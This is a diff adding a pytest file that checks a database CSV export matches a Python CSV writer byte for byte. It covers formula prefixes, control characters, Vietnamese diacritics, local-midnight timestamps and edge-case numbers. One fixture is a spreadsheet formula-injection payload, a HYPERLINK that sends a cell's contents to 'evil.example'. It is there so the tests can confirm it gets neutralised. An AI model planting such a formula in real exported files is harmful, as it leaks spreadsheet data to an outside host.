@@ -1,0 +1,196 @@
+"""The CSV written by the database (dankheo.spreadsheets_sql) is byte for byte the
+file the Python writer (spreadsheets.csv_chunks over exports.export_rows) writes,
+whatever the cells hold: formula prefixes, control characters, every Vietnamese
+mark, quotes and line breaks, empty cells, timestamps around local midnight, dates,
+whole and fractional numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+import unicodedata
+from datetime import UTC, date, datetime, timedelta
+from zoneinfo import ZoneInfo
+
+import pytest
+from sqlalchemy import insert, update
+
+from dankheo import spreadsheets, spreadsheets_sql
+from dankheo.appraisal.models import Commendation
+from dankheo.registry.models import Exemplar
+from dankheo.showcase import exports
+from dankheo.showcase.listing import Filters
+
+MARKS = (
+    "àáảãạ ăằắẳẵặ âầấẩẫậ đ èéẻẽẹ êềếểễệ ìíỉĩị òóỏõọ ôồốổỗộ ơờớởỡợ ùúủũụ ưừứửữự ỳýỷỹỵ"
+)
+TEXTS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+84 912 345 678",
+    "-5",
+    "@SUM(A1)",
+    "\tTab",
+    "\rCR",
+    "\x07=1+2",
+    "\x1f\x0b-x",
+    "\ufffe=x",
+    "Chuông\x07 báo\ufffe\uffff",
+    " =not a formula",
+    "",
+    "x",
+    'Câu "trích dẫn", có dấu phẩy',
+    "Dòng một\nDòng hai\r\nDòng ba",
+    "a,b",
+    '"',
+    MARKS,
+    MARKS.upper(),
+    unicodedata.normalize("NFD", MARKS),
+    "Ấp 3, xã Tân Phú Đông 🙂",
+    "\x7f\ue000 private",
+]
+UTC_TIMES = [
+    datetime(2026, 1, 1, 17, 0, tzinfo=UTC),  # local midnight
+    datetime(2026, 1, 1, 17, 0, 0, 900000, tzinfo=UTC),  # still midnight (seconds)
+    datetime(2026, 1, 1, 16, 59, 59, 999999, tzinfo=UTC),
+    datetime(2026, 1, 1, 17, 0, 59, tzinfo=UTC),
+    datetime(2026, 1, 1, 0, 0, tzinfo=UTC),  # UTC midnight: 07:00 local
+    datetime(2025, 12, 31, 23, 30, tzinfo=UTC),
+    datetime(1975, 6, 12, 17, 0, tzinfo=UTC),  # the zone's offset changed here
+    datetime(1960, 3, 3, 16, 0, tzinfo=UTC),
+    datetime(2199, 12, 31, 17, 0, tzinfo=UTC),
+    None,
+]
+NUMBERS = [
+    None,
+    0.0,
+    -0.0,
+    1.5,
+    2.0,
+    0.1 + 0.2,
+    1e-05,
+    0.0001,
+    123456.789,
+    1e15 + 0.5,
+    2.0**53,
+    1e20,
+    1.7976931348623157e308,
+    5e-324,
+    float("inf"),
+]
+
+
+def _fixture(publish, make, db) -> None:
+    campaign = publish.setup()
+    commune = make.unit(parent=publish.province, name='=Xã, "Thử"\nNghiệm')
+    rows = []
+    for i in range(max(len(TEXTS), len(UTC_TIMES), len(NUMBERS)) * 2):
+        rows.append(
+            {
+                "campaign_id": campaign.id,
+                "unit_id": (commune if i % 2 else publish.commune).id,
+                "name": TEXTS[i % len(TEXTS)] or "x",
+                "address": TEXTS[(i * 7 + 3) % len(TEXTS)],
+                "slug": f"mo-hinh-{i}",
+                "search_text": "",
+                "state": ("recommended", "commended", "replicated")[i % 3],
+                "kind": ("model", "individual", "collective")[i % 3],
+                "published_at": UTC_TIMES[i % len(UTC_TIMES)],
+                "households": (None, 0, 7, 2**31 - 1)[i % 4],
+                "money_million": NUMBERS[i % len(NUMBERS)],
+                "land_m2": NUMBERS[(i * 5 + 1) % len(NUMBERS)],
+                "road_km": NUMBERS[(i * 3 + 2) % len(NUMBERS)],
+                "trees": i,
+            }
+        )
+    db.session.execute(insert(Exemplar), rows)
+    # Commendations: decision numbers and dates too.
+    for n, text in enumerate(["=1/QĐ", "12/QĐ-UBND, ngày", "\x01@x"]):
+        e = publish("commended")
+        db.session.execute(
+            update(Commendation)
+            .where(Commendation.exemplar_id == e.id)
+            .values(decision_number=text, decision_date=date(1999 + n, 12, 31))
+        )
+    db.session.commit()
+
+
+def _python_file(f: Filters, by_id: bool) -> bytes:
+    rows = exports.export_rows(f, by_id=by_id)
+    return "".join(spreadsheets.csv_chunks(exports.export_header(), rows)).encode()
+
+
+@pytest.mark.parametrize("by_id", [True, False])
+@pytest.mark.parametrize("lang", ["vi", "en"])
+def test_the_database_writes_the_python_writers_bytes(
+    app, publish, make, db, by_id, lang
+):
+    _fixture(publish, make, db)
+    with app.test_request_context(f"/?lang={lang}"):
+        for f in (Filters(), Filters(kind="individual")):
+            expected = _python_file(f, by_id)
+            written = exports.export_csv(f, by_id=by_id)
+            data = b"".join(written)
+            assert _table(data) == _table(expected)  # a readable difference first
+            assert data == expected
+            assert written.rows == len(_table(expected)) - 1 > 0
+    # The cases are in the file: formulas neutralised, controls gone, zone applied.
+    table = _table(expected)
+    cells = {c for row in table for c in row}
+    assert "'=1+2" in cells and "'-x" in cells and "'=x" in cells
+    assert not any(ch in c for c in cells for ch in spreadsheets_sql.NOT_XML)
+
+
+def _table(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def test_the_midnight_and_zone_cases_are_written_as_local_times(app, publish, make, db):
+    _fixture(publish, make, db)
+    with app.test_request_context("/"):
+        table = _table(b"".join(exports.export_csv(Filters(), by_id=True)))
+    published = {row[9] for row in table[1:]}
+    assert {"2026-01-02", "2026-01-01 23:59", "2026-01-02 00:00"} <= published
+    assert "2026-01-01 07:00" in published
+    tz = ZoneInfo("Asia/Ho_Chi_Minh")  # before 1975 the zone's offset was another
+    for when in UTC_TIMES[6:9]:
+        local = when.astimezone(tz)
+        assert (
+            local.strftime(
+                "%Y-%m-%d" if local.hour == local.minute == 0 else "%Y-%m-%d %H:%M"
+            )
+            in published
+        )
+    numbers = {row[14] for row in table[1:]} | {row[15] for row in table[1:]}
+    assert {
+        "0",
+        "1.5",
+        "2",
+        "0.30000000000000004",
+        "1e-05",
+        "100000000000000000000",
+    } <= numbers
+    assert "1000000000000000.5" in numbers and "" in numbers
+
+
+def test_the_sql_rules_come_from_the_python_ones():
+    """The characters dropped and the formula starts are the writer's own."""
+    dropped = {
+        chr(i)
+        for i in range(0x10000)
+        if not 0xD800 <= i < 0xE000 and spreadsheets._NOT_XML.match(chr(i))
+    }
+    assert dropped - {"\x00"} == set(spreadsheets_sql.NOT_XML)
+    glob = set(spreadsheets_sql._FORMULA_GLOB)
+    assert glob == {c for c in (*spreadsheets.FORMULA_START, *dropped) if c >= " "}
+
+
+def test_the_fixed_offset_span_is_where_the_zone_keeps_its_offset():
+    offset, since, until = spreadsheets_sql.fixed_offset_span("Asia/Ho_Chi_Minh")
+    assert offset == 7 * 3600
+    start = datetime.fromisoformat(since).replace(tzinfo=UTC)
+    tz = ZoneInfo("Asia/Ho_Chi_Minh")
+    assert start.astimezone(tz).utcoffset() == timedelta(hours=7)
+    assert (start - timedelta(seconds=1)).astimezone(tz).utcoffset() != timedelta(
+        hours=7
+    )
+    assert until > datetime.now(UTC).strftime("%Y")
